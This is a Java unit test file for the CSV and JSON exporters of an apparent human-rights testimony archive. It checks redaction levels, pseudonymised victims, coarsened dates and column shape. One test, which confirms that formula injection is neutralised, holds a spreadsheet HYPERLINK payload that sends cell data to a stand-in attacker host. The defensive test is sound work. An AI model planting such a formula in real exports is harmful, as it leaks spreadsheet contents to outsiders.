package org.tanik.coordinator.reports;

import static org.assertj.core.api.Assertions.assertThat;
import static org.tanik.coordinator.reports.ExportTestSupport.cell;
import static org.tanik.coordinator.reports.ExportTestSupport.export;
import static org.tanik.coordinator.reports.ExportTestSupport.parseCsv;

import com.fasterxml.jackson.databind.JsonNode;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.tanik.coordinator.ArchivedTestimony;
import org.tanik.model.Json;

class TabularWritersTest {

    private static List<ArchivedTestimony> two() {
        return List.of(ReportFixtures.marked("id-a", "First", "Qxvictimone Şahin"),
                ReportFixtures.marked("id-b", "Second", "Qxvictimone ŞAHİN"));
    }

    /** The three files an export can be at a level: CSV of each table, and JSON. */
    private static List<String> files(RedactionLevel level) throws Exception {
        List<String> out = new ArrayList<>();
        for (TableRows rows : TableRows.values()) {
            out.add(new String(export(new TabularCsvWriter(), level, rows, two()), StandardCharsets.UTF_8));
        }
        out.add(new String(export(new TabularJsonWriter(), level, TableRows.ACTS, two()), StandardCharsets.UTF_8));
        return out;
    }

    @ParameterizedTest
    @EnumSource(value = RedactionLevel.class, names = {"CONFIDENTIAL", "ANONYMISED"})
    void noMarkerInTheBytesBelowFull(RedactionLevel level) throws Exception {
        for (String file : files(level)) {
            String lower = file.toLowerCase(Locale.ROOT);
            for (String marker : ReportFixtures.MARKERS) {
                assertThat(lower).as(marker).doesNotContain(marker.toLowerCase(Locale.ROOT));
            }
            assertThat(lower).doesNotContain("şahin").doesNotContain("sahin");
        }
    }

    @Test
    void everyMarkerInTheBytesAtFull() throws Exception {
        List<String> files = files(RedactionLevel.FULL);
        String testimonies = files.get(0).toLowerCase(Locale.ROOT);
        String acts = files.get(1).toLowerCase(Locale.ROOT);
        String json = files.get(2).toLowerCase(Locale.ROOT);
        for (String marker : ReportFixtures.MARKERS) {
            String m = marker.toLowerCase(Locale.ROOT);
            if (!m.equals("qxfilename")) { // file names are listed in dossiers, not in rows
                assertThat(testimonies + acts).as(marker).contains(m);
                assertThat(json).as(marker).contains(m);
            }
        }
    }

    @Test
    void anonymisedRowsCarryPseudonymsStableAcrossTestimonies() throws Exception {
        List<List<String>> acts = parseCsv(export(new TabularCsvWriter(), RedactionLevel.ANONYMISED, TableRows.ACTS, two()));
        assertThat(acts).hasSize(5);
        assertThat(cell(acts, 1, "victims")).isEqualTo("V-1|V-2");
        assertThat(cell(acts, 2, "victims")).isEqualTo("V-1");
        assertThat(cell(acts, 3, "testimony_id")).isEqualTo("id-b");
        assertThat(cell(acts, 3, "victims")).isEqualTo("V-1|V-2");
        assertThat(cell(acts, 1, "perpetrator_names")).isEmpty();
        assertThat(cell(acts, 1, "incident_label")).isEqualTo("Arrest of V-1");
    }

    @ParameterizedTest
    @EnumSource(RedactionLevel.class)
    void sensitiveDatesReachTheRowsAsMonthsOnlyWhenAnonymised(RedactionLevel level) throws Exception {
        List<List<String>> acts = parseCsv(export(new TabularCsvWriter(), level, TableRows.ACTS, two()));
        boolean reduced = level == RedactionLevel.ANONYMISED;
        assertThat(cell(acts, 1, "start_date")).isEqualTo(reduced ? "2017-03" : "2017-03-14");
        assertThat(cell(acts, 1, "start_date_precision")).isEqualTo(reduced ? "month" : "exact");
        assertThat(cell(acts, 1, "sensitive_dates")).isEqualTo("true");
        assertThat(cell(acts, 2, "start_date")).isEqualTo("2017-04-02");
    }

    @Test
    void uwaziShape() throws Exception {
        for (TableRows rows : TableRows.values()) {
            List<List<String>> table = parseCsv(export(new TabularCsvWriter(), RedactionLevel.FULL, rows, two()));
            List<String> header = table.get(0);
            assertThat(header).as(rows.code()).containsExactlyElementsOf(ExportRows.columns(rows));
            assertThat(header.get(0)).isEqualTo("title");
            assertThat(header).allSatisfy(h -> assertThat(h).matches("[a-z][a-z0-9_]*"));
        }
        List<List<String>> testimonies = parseCsv(export(new TabularCsvWriter(), RedactionLevel.FULL,
                TableRows.TESTIMONIES, two()));
        assertThat(cell(testimonies, 1, "violation_types")).isEqualTo("detention|torture");
        assertThat(cell(testimonies, 1, "provinces")).isEqualTo("34|06");
        assertThat(cell(testimonies, 1, "consent_scopes")).isEqualTo("documentation|reports-anonymous");
        assertThat(cell(testimonies, 1, "victims")).isEqualTo("Qxvictimone Şahin|Qxvictimtwo Öztürk");
        assertThat(cell(testimonies, 1, "bundle_sha256")).isEqualTo("b".repeat(64));
    }

    @Test
    void aFormulaTitleIsNeutralisedAndParsesBackAsWritten() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.invalid/?\"&A1;\"click\")";
        List<ArchivedTestimony> one = List.of(ReportFixtures.marked("id-a", formula, "Qxvictimone Şahin"));
        byte[] csv = export(new TabularCsvWriter(), RedactionLevel.CONFIDENTIAL, TableRows.TESTIMONIES, one);
        List<List<String>> table = parseCsv(csv);
        assertThat(cell(table, 1, "title")).isEqualTo("'" + formula).isEqualTo(CsvCells.neutralise(formula));
        assertThat(new String(csv, StandardCharsets.UTF_8)).doesNotContain("\n=").doesNotContain(",=")
                .doesNotContain("\n\"=").doesNotContain(",\"=");
        // JSON is not a spreadsheet's: the value travels as it is.
        JsonNode json = Json.mapper().readTree(export(new TabularJsonWriter(), RedactionLevel.CONFIDENTIAL,
                TableRows.ACTS, one));
        assertThat(json.get("testimonies").get(0).get("title").asText()).isEqualTo(formula);
    }

    @Test
    void jsonHasTheDocumentedShape() throws Exception {
        JsonNode json = Json.mapper().readTree(export(new TabularJsonWriter(), RedactionLevel.ANONYMISED,
                TableRows.TESTIMONIES, two()));
        assertThat(json.get("format").asText()).isEqualTo("tanik-export-1");
        assertThat(json.get("level").asText()).isEqualTo("anonymised");
        assertThat(json.get("produced_at").asText()).isEqualTo(ReportFixtures.NOW.toString());
        assertThat(json.get("filters").asText()).isEqualTo("type=detention");
        assertThat(json.get("testimonies")).hasSize(2);
        assertThat(json.get("acts")).hasSize(4);
        List<String> fields = new ArrayList<>();
        json.get("acts").get(0).fieldNames().forEachRemaining(fields::add);
        assertThat(fields).containsExactlyElementsOf(ExportRows.columns(TableRows.ACTS));
        assertThat(json.get("acts").get(3).get("victims").asText()).isEqualTo("V-1");
    }
}
